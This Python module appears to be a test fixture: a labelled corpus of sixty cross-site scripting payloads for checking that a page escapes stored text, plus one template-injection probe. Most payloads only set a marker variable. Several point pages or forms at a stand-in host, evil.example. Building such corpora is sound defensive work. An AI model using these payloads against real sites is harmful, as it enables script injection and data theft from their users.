"""Sixty texts that would run as script on a page that does not escape them: our own corpus, by what each tries to break out of.

Each sets `window.ran`, or would fetch something, where it succeeds. `NUL` holds a null byte, which SQLite stores.
"""

from typing import Final

#: What a payload leaves behind in a browser in which it ran.
MARK: Final = "ran"

_ELEMENTS = (
    "<script>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT >",
    "<script src=data:text/javascript,window.ran=1></script>",
    "<script/x>window.ran=1</script/x>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<img src=x onerror=window.ran=1>",
    '<img src="x` `"onerror="window.ran=1">',
    "<img/src=x/onerror=window.ran=1//",
    "<IMG SRC=x\nONERROR\n=\nwindow.ran=1>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.ran=1><text y=20>x</text></a></svg>",
    "<body onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data=data:text/html,<script>parent.ran=1</script>></object>",
    "<embed src=javascript:window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<x onclick=window.ran=1 style=position:fixed;inset:0>x</x>",
    "<marquee onstart=window.ran=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import'//evil.example/x.css';</style>",
)
_ATTRIBUTES = (
    '"><script>window.ran=1</script>',
    "'><script>window.ran=1</script>",
    '"><svg/onload=window.ran=1>',
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1" x="',
    "' onfocus='window.ran=1' autofocus tabindex='0",
    "x onfocus=window.ran=1 autofocus",
    '" style="background:url(//evil.example/x)" x="',
    "&quot;><img src=x onerror=window.ran=1>",
    '" formaction="javascript:window.ran=1" x="',
)
_ADDRESSES = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "java\tscript:window.ran=1",
    "\x01javascript:window.ran=1",
    "&#106;avascript&colon;window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    '<a href="javascript:window.ran=1" autofocus>点我</a>',
)
_CLOSINGS = (
    "</script><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    "</title><img src=x onerror=window.ran=1>",
    "</textarea><img src=x onerror=window.ran=1>",
    "--><img src=x onerror=window.ran=1><!--",
    "]]><img src=x onerror=window.ran=1>",
)
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<svg></p><style><a id='</style><img src=x onerror=window.ran=1>'>",
)
_HTMX = (
    '" hx-on:load="window.ran=1" x="',
    "<div hx-get=//evil.example/x hx-trigger=load hx-on::after-request=window.ran=1>",
)
_TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}<img src=x onerror=window.ran=1>{% endraw %}",
)
_UNICODE = (
    "＜script＞window.ran=1＜/script＞<\u202escript>window.ran=1</script>",
    "<img\u2028src=x\u00a0onerror=window.ran=1><img\u000csrc=x\u000conerror=window.ran=1>",
)
NUL = "<\x00img src=x onerror=window.ran=1><script\x00>window.ran=1</script>"

#: All of them, each once.
PAYLOADS: Final = (*_ELEMENTS, *_ATTRIBUTES, *_ADDRESSES, *_CLOSINGS, *_MUTATIONS, *_HTMX, *_TEMPLATES, *_UNICODE, NUL)
